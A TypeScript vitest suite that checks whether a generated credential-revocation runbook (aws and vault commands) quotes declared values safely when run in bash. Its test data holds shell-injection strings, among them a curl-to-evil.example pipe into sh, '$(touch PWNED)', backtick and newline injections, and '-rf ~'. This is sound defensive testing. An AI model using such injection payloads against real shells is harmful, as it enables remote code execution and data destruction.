/**
 * The revocation runbook is pasted into a shell by a responder under stress: every declared value
 * in it must reach the command as exactly one argument. The runbook is run here by bash itself,
 * with `aws` and `vault` replaced by functions that print their argv, and with values the schema
 * would refuse (the grammar is the first wall, the quoting the second).
 */
import { execFileSync } from "node:child_process";
import { mkdtempSync, readdirSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { leaseRevokeCommands } from "../../components/core/compile";
import { parseDeclaration, type AgentDeclaration, type Platform } from "../../components/core/schema";
import { shellComment } from "../../components/core/grammar/shell-command";
import { PLATFORM, agent } from "../helpers/fixtures";

const HOSTILE_ROLE_NAMES = [
  "x;curl${IFS}-s${IFS}evil.example|sh;#",
  "$(touch PWNED)",
  "`touch PWNED`",
  "a'b\"c\\d!e",
  "x&&touch PWNED||y",
  "*",
  "-rf ~",
  "a b\tc",
];

function revoked(roleName: string, databaseMount = "database"): { platform: Platform; agent: AgentDeclaration } {
  const declaration = parseDeclaration({
    platform: PLATFORM,
    agents: [
      agent("rogue", {
        revoked: { at: "2026-11-28T09:30:00Z", reason: "INC-7" },
        tools: [
          { name: "reports", vaultAws: { roleArn: "arn:aws:iam::444455556666:role/reports-reader", ttl: "15m" } },
          {
            name: "ledger",
            database: {
              connection: "main",
              creationStatements: [`CREATE ROLE "{{name}}" WITH LOGIN PASSWORD '{{password}}' VALID UNTIL '{{expiration}}'; GRANT SELECT ON t TO "{{name}}";`],
              revocationStatements: ['REVOKE ALL ON t FROM "{{name}}"; DROP ROLE IF EXISTS "{{name}}";'],
              ttl: "10m",
            },
          },
        ],
      }),
    ],
  });
  // Past the schema on purpose: the quoting must hold on its own.
  const [parsed] = declaration.agents;
  const tools = parsed.tools.map((tool) =>
    tool.vaultAws ? { ...tool, vaultAws: { ...tool.vaultAws, roleArn: `arn:aws:iam::444455556666:role/${roleName}` } } : tool,
  );
  return { platform: { ...declaration.platform, vault: { ...declaration.platform.vault, databaseMount } }, agent: { ...parsed, tools } };
}

/** Run the runbook in bash in an empty directory; `aws` and `vault` print their argv, NUL-separated, one command per line. */
function runInBash(lines: readonly string[]): { commands: string[][]; files: string[] } {
  const dir = mkdtempSync(join(tmpdir(), "runbook-"));
  const prelude = `aws() { printf 'aws\\0'; printf '%s\\0' "$@"; printf '\\n'; }\nvault() { printf 'vault\\0'; printf '%s\\0' "$@"; printf '\\n'; }\n`;
  const out = execFileSync("bash", ["-c", prelude + lines.join("\n")], { cwd: dir, encoding: "utf8", env: { PATH: process.env.PATH ?? "", HOME: dir } });
  const commands = out
    .split("\n")
    .filter(Boolean)
    .map((line) => line.split("\0").slice(0, -1));
  return { commands, files: readdirSync(dir) };
}

describe("the revocation runbook", () => {
  it.each(HOSTILE_ROLE_NAMES)("passes the role name %j to aws as exactly one argument", (roleName) => {
    const { platform, agent } = revoked(roleName);
    const lines = leaseRevokeCommands(platform, agent);
    const { commands, files } = runInBash(lines);
    expect(files, "nothing ran but aws and vault").toEqual([]);
    const put = commands.filter((argv) => argv[0] === "aws");
    expect(put).toHaveLength(1);
    expect(put[0].slice(0, 8)).toEqual([
      "aws",
      "iam",
      "put-role-policy",
      "--role-name",
      roleName,
      "--policy-name",
      "AWSRevokeOlderSessions",
      "--policy-document",
    ]);
    expect(put[0]).toHaveLength(9);
    const document = JSON.parse(put[0][8]) as { Statement: { Condition: { DateLessThan: Record<string, string> } } };
    expect(document.Statement.Condition.DateLessThan["aws:TokenIssueTime"]).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$/);
  });

  it("passes a hostile database mount to vault as one argument", () => {
    const mount = "db;touch PWNED;#";
    const { platform, agent } = revoked("reports-reader", mount);
    const { commands, files } = runInBash(leaseRevokeCommands(platform, agent));
    expect(files).toEqual([]);
    expect(commands.filter((argv) => argv[0] === "vault")).toEqual([["vault", "lease", "revoke", "-prefix", `${mount}/creds/test.rogue.ledger/`]]);
  });

  it("refuses to print a comment a line break would end", () => {
    expect(() => shellComment("role x\ntouch PWNED")).toThrow(/line terminators/);
    const { platform, agent } = revoked("x\ntouch PWNED");
    expect(() => leaseRevokeCommands(platform, agent)).toThrow(/line terminators/);
  });

  it("prints ordinary values as before", () => {
    const { platform, agent } = revoked("reports-reader");
    const lines = leaseRevokeCommands(platform, agent);
    expect(lines.filter((line) => !line.startsWith("#"))).toEqual([
      expect.stringMatching(/^aws iam put-role-policy --role-name reports-reader --policy-name AWSRevokeOlderSessions --policy-document "\{/),
      "vault lease revoke -prefix database/creds/test.rogue.ledger/",
    ]);
  });
});
